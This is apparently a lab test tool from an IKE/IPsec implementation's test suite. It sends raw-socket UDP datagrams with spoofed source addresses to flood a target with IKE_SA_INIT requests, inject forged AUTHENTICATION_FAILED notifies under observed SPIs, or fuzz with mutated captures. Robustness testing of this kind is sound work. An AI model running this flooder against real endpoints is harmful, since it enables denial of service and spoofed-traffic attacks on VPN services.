"""An attacker on the WAN: spoofed IKE datagrams at a chosen rate (test tool, root only).

Run inside a lab namespace that has a route to the target::

    python -m tests.tools.flood --dst 192.0.2.1 --sources 203.0.113.0/24 \\
        --kind init --rate 2000 --seconds 60

Kinds (every datagram goes out through a raw socket with a spoofed IPv4
source drawn from ``--sources``, or exactly ``--src`` if given):

- ``init``: IKE_SA_INIT requests (SA, KE, Ni, the usual notifies), each with
  a fresh random SPIi and nonce, as any initiator would send;
- ``info``: cleartext INFORMATIONAL requests under the SPIs ``--spis``
  (SPIi:SPIr in hex, as seen on the wire), each with the next message ID;
- ``mutate``: random mutations (bit flips, truncation, splices) of the
  datagrams in ``--corpus`` (a file of hex lines, e.g. from a capture).

``--rate 0`` sends as fast as one process can. The tool prints one JSON
line: datagrams sent, seconds, achieved rate. It stops by itself.
"""

from __future__ import annotations

import argparse
import contextlib
import ipaddress
import json
import random
import socket
import sys
import time
from collections.abc import Callable, Iterator

from ike.constants import DhGroup, ExchangeType, HeaderFlag, NotifyType
from ike.dh import DhPrivate
from ike.entropy import DeterministicEntropy
from ike.payloads import KePayload, NoncePayload, NotifyPayload, SaPayload
from ike.proposals import make_offer, parse_ike_proposal
from ike.wire import Message
from tests.helpers.packets import udp_packet

TICK = 0.001  # seconds between bursts when rate-limited


def init_template(group: DhGroup = DhGroup.CURVE25519) -> bytes:
    """One genuine-looking IKE_SA_INIT request; SPIi and nonce are rewritten per datagram."""
    entropy = DeterministicEntropy(b"flood")
    proposal = parse_ike_proposal("aes256gcm16-prfsha256-x25519")
    dh = DhPrivate.generate(group, entropy)
    return Message(
        spi_i=bytes(8),
        exchange_type=ExchangeType.IKE_SA_INIT,
        flags=HeaderFlag.INITIATOR,
        message_id=0,
        payloads=[
            SaPayload(make_offer((proposal,))),
            KePayload(group, dh.public_bytes()),
            NoncePayload(bytes(32)),
            NotifyPayload(NotifyType.NAT_DETECTION_SOURCE_IP, bytes(20)),
            NotifyPayload(NotifyType.NAT_DETECTION_DESTINATION_IP, bytes(20)),
        ],
    ).build()


def init_datagrams(rng: random.Random) -> Iterator[bytes]:
    template = bytearray(init_template())
    nonce_at = template.rfind(bytes(32))  # the nonce is the only run of 32 zero bytes left
    while True:
        template[0:8] = rng.randbytes(8)
        template[nonce_at : nonce_at + 32] = rng.randbytes(32)
        yield bytes(template)


def info_datagrams(spis: str) -> Iterator[bytes]:
    spi_i, spi_r = (bytes.fromhex(part) for part in spis.split(":"))
    message_id = 0
    while True:
        message_id = (message_id + 1) % 2**32
        yield Message(
            spi_i=spi_i,
            spi_r=spi_r,
            exchange_type=ExchangeType.INFORMATIONAL,
            flags=HeaderFlag.INITIATOR,
            message_id=message_id,
            payloads=[NotifyPayload(NotifyType.AUTHENTICATION_FAILED)],
        ).build()


def mutate(data: bytes, rng: random.Random, corpus: list[bytes]) -> bytes:
    out = bytearray(data)
    for _ in range(rng.randint(1, 4)):
        choice = rng.random()
        if choice < 0.5 and out:
            i = rng.randrange(len(out))
            out[i] ^= 1 << rng.randrange(8)
        elif choice < 0.7 and out:
            out[rng.randrange(len(out))] = rng.choice((0, 0xFF, 0x7F, 0x80))
        elif choice < 0.85:
            del out[rng.randrange(len(out) + 1) :]
        else:
            other = rng.choice(corpus)
            cut = rng.randrange(len(other) + 1)
            out = out[: rng.randrange(len(out) + 1)] + bytearray(other[cut:])
    return bytes(out)


def mutated_datagrams(corpus_file: str, rng: random.Random) -> Iterator[bytes]:
    with open(corpus_file) as lines:
        corpus = [bytes.fromhex(line.strip()) for line in lines if line.strip()]
    if not corpus:
        raise SystemExit(f"flood: no datagrams in {corpus_file}")
    while True:
        yield mutate(rng.choice(corpus), rng, corpus)


def sources(args: argparse.Namespace, rng: random.Random) -> Callable[[], str]:
    if args.src:
        return lambda: str(args.src)
    hosts = [str(h) for h in ipaddress.ip_network(args.sources).hosts()]
    return lambda: rng.choice(hosts)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m tests.tools.flood", description=__doc__)
    parser.add_argument("--dst", required=True)
    parser.add_argument("--port", type=int, default=500)
    parser.add_argument("--sources", default="203.0.113.0/24")
    parser.add_argument("--src", help="one fixed source address (e.g. the real peer's)")
    parser.add_argument("--sport", type=int, default=0, help="0: random high port")
    parser.add_argument("--kind", choices=("init", "info", "mutate"), default="init")
    parser.add_argument("--spis", default="", help="SPIi:SPIr in hex (kind info)")
    parser.add_argument("--corpus", default="", help="file of hex datagrams (kind mutate)")
    parser.add_argument("--rate", type=float, default=2000.0, help="datagrams/s, 0 = flat out")
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--count", type=int, default=0, help="stop after this many (0: no cap)")
    parser.add_argument("--seed", type=int, default=1)
    args = parser.parse_args(argv)
    rng = random.Random(args.seed)
    if args.kind == "init":
        payloads = init_datagrams(rng)
    elif args.kind == "info":
        payloads = info_datagrams(args.spis)
    else:
        payloads = mutated_datagrams(args.corpus, rng)
    source = sources(args, rng)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL
    sent, start = 0, time.monotonic()
    end = start + args.seconds
    per_tick = max(1, round(args.rate * TICK)) if args.rate else 64
    next_tick = start
    while (now := time.monotonic()) < end and (not args.count or sent < args.count):
        for _ in range(per_tick):
            sport = args.sport or rng.randrange(1024, 65536)
            packet = udp_packet(source(), args.dst, next(payloads), sport, args.port,
                                checksums=False)  # fmt: skip
            with contextlib.suppress(OSError):  # e.g. a full queue: the attacker does not care
                raw.sendto(packet, (args.dst, 0))
            sent += 1
        if args.rate:
            next_tick += TICK
            if next_tick > now:
                time.sleep(next_tick - now)
    seconds = time.monotonic() - start
    print(json.dumps({"sent": sent, "seconds": round(seconds, 3), "rate": round(sent / seconds)}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
